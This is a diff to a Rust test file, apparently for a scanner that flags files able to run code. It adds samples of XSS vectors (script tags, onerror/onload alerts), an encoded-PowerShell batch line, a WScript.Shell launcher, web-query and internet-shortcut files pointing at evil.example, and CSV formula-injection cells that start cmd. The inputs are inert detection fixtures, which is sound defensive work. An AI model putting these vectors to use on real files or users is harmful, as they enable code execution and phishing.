@@ -519,6 +519,52 @@ pub(crate) fn all() -> Vec<Sample> {
         add(format!("begins as {name}"), [begin, HARM, b"\0"].concat(), true);
         add(format!("as {name} without a zero"), [begin, HARM].concat(), !matches!(name, "a program"));
     }
+    let jww = [&b"JwwData.\x58\x02\0\0CDataSen"[..], &[0; 64], b"\x7fELF", HARM].concat();
+    add("jww: a program behind".into(), jww, true);
+    let jww = [&b"JwwData.\xe6\0\0\0CDataSen"[..], &[0; 64], b"Rar!\x1a\x07", HARM].concat();
+    add("jww: of a version that is not known".into(), jww, true);
+
+    // What something opens and follows, however far behind in a text it stands, and whatever the text is called.
+    let far = format!("<!-- {} -->", "x".repeat(9_000));
+    let office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0";
+    let word = "http://schemas.microsoft.com/office/word/2003/wordml";
+    for (name, text) in [
+        ("HTML", format!("{far}<html><body><script>")),
+        ("a page without a head", "text <img src=x onerror=\"alert(1)\">".to_owned()),
+        ("HTA", format!("{far}<hta:application><script language=\"VBScript\">")),
+        ("SVG", format!("<?xml version=\"1.0\"?>{far}<svg onload=\"alert(1)\">")),
+        (
+            "flat OpenDocument",
+            format!("<?xml version=\"1.0\"?>{far}<office:document xmlns:office=\"{office}\">"),
+        ),
+        ("Word 2003", format!("<?xml version=\"1.0\"?>{far}<w:wordDocument xmlns:w=\"{word}\">")),
+        (
+            "settings that run",
+            "<?xml version=\"1.0\"?><PCSettings><SearchableContent/></PCSettings>".to_owned(),
+        ),
+        ("a batch file", "@echo off\r\npowershell -enc AAAA\r\n".to_owned()),
+        ("Visual Basic", "\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\n".to_owned()),
+        ("a query", "WEB\r\n1\r\nhttp://evil.example/x\r\n".to_owned()),
+        ("a link", "\r\n; comment\r\n[InternetShortcut]\r\nURL=file://evil.example/s/run.exe\r\n".to_owned()),
+        ("the registry", "\u{feff}\u{feff}REGEDIT4\r\n".to_owned()),
+        ("SYLK", "\u{feff}\u{feff}ID;PWXL;N;E\r\n".to_owned()),
+        (
+            "a mail",
+            format!("X-A: {}\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n", "y".repeat(9_000)),
+        ),
+        (
+            "a drawing that is a page",
+            "999\r\n<html><script>\r\n  0\r\nSECTION\r\n  2\r\nENTITIES\r\n  0\r\nENDSEC\r\n  0\r\nEOF\r\n"
+                .to_owned(),
+        ),
+        (
+            "a model that is a page",
+            "ISO-10303-21;\nHEADER;\n/* <html><script> */\nENDSEC;\nDATA;\nENDSEC;\nEND-ISO-10303-21;\n"
+                .to_owned(),
+        ),
+    ] {
+        add(format!("text: {name}"), text.into_bytes(), true);
+    }
     for cell in ["=cmd|'/C calc'!A0", "+1+cmd", "-2+3+cmd|x", "@SUM(1)", "＝1+1"] {
         add(format!("csv: {cell}"), format!("a,b\r\n{cell},c\r\n").into_bytes(), false);
     }
